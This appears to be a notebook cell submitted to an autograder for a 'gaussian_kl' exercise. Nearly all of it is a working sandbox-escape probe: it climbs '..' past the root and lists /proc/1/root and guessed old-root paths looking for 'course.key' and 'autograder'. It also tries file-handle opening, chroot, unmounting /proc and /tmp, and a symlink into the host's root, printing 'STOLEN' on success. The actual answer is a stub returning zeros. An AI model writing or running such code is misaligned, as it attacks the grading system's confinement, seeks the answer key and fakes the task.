# tries: leave the sandbox's file system by .., links, file handles, chroot, and what lies under a mount
# only here: what it finds depends on the machine that grades, not on the grader

# %%
# exercise: gaussian_kl
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
tried = 0
top = os.open("/", os.O_RDONLY)
above = top
for _ in range(30):
    above = os.open("..", os.O_RDONLY, dir_fd=above)
if os.fstat(above).st_ino != os.fstat(top).st_ino:
    print("STOLEN a folder above", os.listdir(above))
for target in ("/proc/1/root", "/proc/self/root/..", "/judge/..", "/run/fixmelab", "/oldroot", "/newroot", "/.oldroot"):
    tried += 1
    try:
        inside = os.listdir(target)
    except OSError:
        continue
    if set(inside) & {"course.key", "source", "autograder", "inside", "sessions", "root", "boot"} and target != "/judge/..":
        print("STOLEN", target, inside)
handle = (ctypes.c_uint32 * 34)(128, 0)
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, b"/", handle, ctypes.byref(mount), 0) == 0:
    if libc.open_by_handle_at(top, handle, 0) >= 0:
        print("STOLEN a file handle")
os.makedirs("/tmp/jail", exist_ok=True)
if libc.chroot(b"/tmp/jail") == 0:
    print("STOLEN chroot")
if libc.umount2(b"/proc", 2) == 0 or libc.umount2(b"/home/student", 2) == 0 or libc.umount2(b"/tmp", 2) == 0:
    print("STOLEN umount", os.listdir("/proc"))
link = "/tmp/link"
os.symlink("/proc/1/root/root", link)
try:
    print("STOLEN", os.listdir(link))
except OSError:
    tried += 1


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))


print("reached" if tried == 8 else tried)
